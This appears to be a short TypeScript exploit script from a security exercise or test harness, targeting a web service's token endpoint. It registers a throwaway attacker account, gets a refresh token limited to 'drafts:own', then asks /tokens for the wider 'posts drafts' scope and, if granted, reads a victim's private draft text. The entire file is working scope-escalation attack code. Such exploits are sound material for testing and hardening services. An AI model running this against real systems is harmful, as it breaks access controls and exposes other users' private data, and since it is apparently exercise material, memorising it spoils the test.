import { type Client, exploit } from '#attack';

interface Draft {
  author: string;
  text: string;
}

export default exploit(async ({ target, victim, say }) => {
  const attacker = target.client('Attacker');
  const refresh_token = await tokenOf(attacker);
  const { status, body } = await attacker.post('/tokens', { refresh_token, scope: 'posts drafts' });
  if (status !== 200) {
    say('The program refuses the scope.');
    return undefined;
  }
  for (const draft of await draftsFor(attacker, body.access_token)) if (draft.author === victim) return draft.text;
  return undefined;
});

async function tokenOf(attacker: Client): Promise<string> {
  const { key } = (await attacker.post('/accounts', { email: `eve${process.hrtime.bigint()}@example.org` })).body;
  return (await attacker.post('/grants', { scope: 'posts drafts:own' }, { headers: { 'X-Account-Key': key } })).body
    .refresh_token;
}

async function draftsFor(attacker: Client, token: string): Promise<Draft[]> {
  const { body } = await attacker.get('/drafts', { headers: { Authorization: `Bearer ${token}` } });
  return Array.isArray(body) ? body : [];
}
